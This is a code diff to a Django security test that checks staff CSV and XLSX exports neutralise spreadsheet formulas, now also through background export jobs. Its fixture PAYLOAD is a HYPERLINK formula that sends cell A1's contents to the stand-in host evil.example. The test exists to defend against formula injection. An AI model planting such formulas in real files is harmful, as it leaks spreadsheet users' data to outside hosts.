@@ -6,11 +6,13 @@ import csv
 import io
 
 import pytest
+from django.test import TestCase
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from lk_plugin.core.export import escape_formula
 from tests import factories_staff as f
+from tests.job_helpers import staff_export
 from tests.security.staff_data import populate
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
@@ -54,6 +56,16 @@ def _xlsx_cells(response):
     return cells
 
 
+def _export(client, url, fmt):
+    """The file of «Скачать CSV/XLSX»: straight from the list, or through its background job (the
+    applications and appeals queues export large lists as jobs)."""
+    with TestCase.captureOnCommitCallbacks(execute=True):
+        response = client.get(url, {"export": fmt})
+    if response.status_code == 302 and "/admin/lk-jobs/" in response["Location"]:
+        return staff_export(client, url, {"export": fmt})
+    return response
+
+
 @pytest.fixture
 def admin_client(client, db):
     client.force_login(f.user("root@example.ru", is_staff=True, is_superuser=True))
@@ -65,14 +77,14 @@ def admin_client(client, db):
 def test_every_staff_export_writes_formulas_as_text(admin_client, url_name):
     populate(PAYLOAD)
     url = reverse(url_name)
-    csv_response = admin_client.get(url, {"export": "csv"})
+    csv_response = _export(admin_client, url, "csv")
     assert csv_response.status_code == 200
     cells = _csv_cells(csv_response)
     assert any(PAYLOAD in cell for cell in cells), "the payload is in the export"
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
     assert _escaped(cells)
 
-    xlsx_response = admin_client.get(url, {"export": "xlsx"})
+    xlsx_response = _export(admin_client, url, "xlsx")
     assert xlsx_response.status_code == 200
     cells = _xlsx_cells(xlsx_response)
     texts = [c.value for c in cells if isinstance(c.value, str)]
